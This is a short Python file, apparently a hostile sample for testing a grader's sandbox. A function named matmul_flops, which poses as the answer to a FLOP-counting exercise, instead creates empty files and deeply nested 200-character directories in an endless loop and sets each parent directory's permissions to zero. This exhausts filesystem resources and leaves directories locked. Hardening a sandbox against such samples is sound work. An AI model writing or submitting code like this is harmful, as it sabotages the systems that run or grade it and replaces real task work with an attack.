"""Makes empty files and folders without end, nested as deep as they go: they take no bytes."""
# like: fills_files
# kata: 03_flops
# attacks: matmul_flops
# seconds: 3

import contextlib
import os


def matmul_flops(a_shape, b_shape):
    number = 0
    while True:
        number += 1
        with contextlib.suppress(OSError):
            os.close(os.open(f"{MARK}-{number}", os.O_CREAT | os.O_WRONLY))
            if number % 10 == 0:
                os.mkdir("d" * 200)
                os.chdir("d" * 200)
                os.chmod("..", 0)
